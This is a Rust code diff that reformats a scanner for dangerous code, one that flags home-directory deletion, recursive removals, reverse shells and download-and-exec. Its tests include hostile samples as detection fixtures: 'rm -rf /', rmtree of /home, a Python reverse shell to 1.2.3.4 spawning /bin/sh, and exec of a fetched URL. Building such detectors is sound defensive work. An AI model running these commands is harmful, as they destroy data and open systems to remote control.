@@ -163,9 +163,17 @@ pub(crate) fn inspect(code: &str) -> CodeFindings {
         for args in call_args(code, call) {
             let literals = string_literals(args);
             let target = literals.first().copied();
-            let home = ["Dir.home", "expanduser", "os.homedir", "process.env.HOME", "$ENV{HOME}", "getenv(\"HOME\")", "Path.home"]
-                .iter()
-                .any(|h| args.contains(h));
+            let home = [
+                "Dir.home",
+                "expanduser",
+                "os.homedir",
+                "process.env.HOME",
+                "$ENV{HOME}",
+                "getenv(\"HOME\")",
+                "Path.home",
+            ]
+            .iter()
+            .any(|h| args.contains(h));
             let outside = match target {
                 _ if home => true,
                 Some(t) => {
@@ -183,7 +191,10 @@ pub(crate) fn inspect(code: &str) -> CodeFindings {
     if (code.contains("unlink") || code.contains("rmtree"))
         && let Some(g) = call_args(code, "glob(").into_iter().next()
         && let Some(t) = string_literals(g).first()
-        && matches!(scope(t.trim_end_matches("/*")), Scope::Root | Scope::Home | Scope::System | Scope::OtherHome)
+        && matches!(
+            scope(t.trim_end_matches("/*")),
+            Scope::Root | Scope::Home | Scope::System | Scope::OtherHome
+        )
     {
         f.destroys = Some(format!("unlink glob({t})"));
     }
@@ -268,8 +279,16 @@ mod tests {
     fn destructive_calls_by_scope() {
         assert!(inspect(r#"import shutil; shutil.rmtree("/home")"#).destroys.is_some());
         assert!(inspect(r#"import shutil; shutil.rmtree("build")"#).destroys.is_none());
-        assert!(inspect(r#"require("fs").rmSync(process.env.HOME, {recursive: true})"#).destroys.is_some());
-        assert!(inspect(r#"require("fs").rmSync("dist", {recursive: true})"#).destroys.is_none());
+        assert!(
+            inspect(r#"require("fs").rmSync(process.env.HOME, {recursive: true})"#)
+                .destroys
+                .is_some()
+        );
+        assert!(
+            inspect(r#"require("fs").rmSync("dist", {recursive: true})"#)
+                .destroys
+                .is_none()
+        );
         assert!(inspect(r#"unlink glob("/etc/*")"#).destroys.is_some());
     }
 
@@ -279,7 +298,10 @@ mod tests {
         assert_eq!(f.commands, ["rm -rf ~"]);
         let f = inspect(r#"subprocess.run(["rm", "-rf", "/"])"#);
         assert!(f.commands.contains(&"rm -rf /".to_string()), "{f:?}");
-        assert!(inspect(r#"s=socket.socket();s.connect(("1.2.3.4",1));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")"#).reverse_shell);
+        assert!(
+            inspect(r#"s=socket.socket();s.connect(("1.2.3.4",1));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")"#)
+                .reverse_shell
+        );
         assert!(!inspect("import socket; print(socket.gethostname())").reverse_shell);
         assert!(inspect("import urllib.request as u;exec(u.urlopen('http://x/p').read())").runs_download);
         assert!(inspect(r#"print("rm -rf / is bad")"#).commands.is_empty());
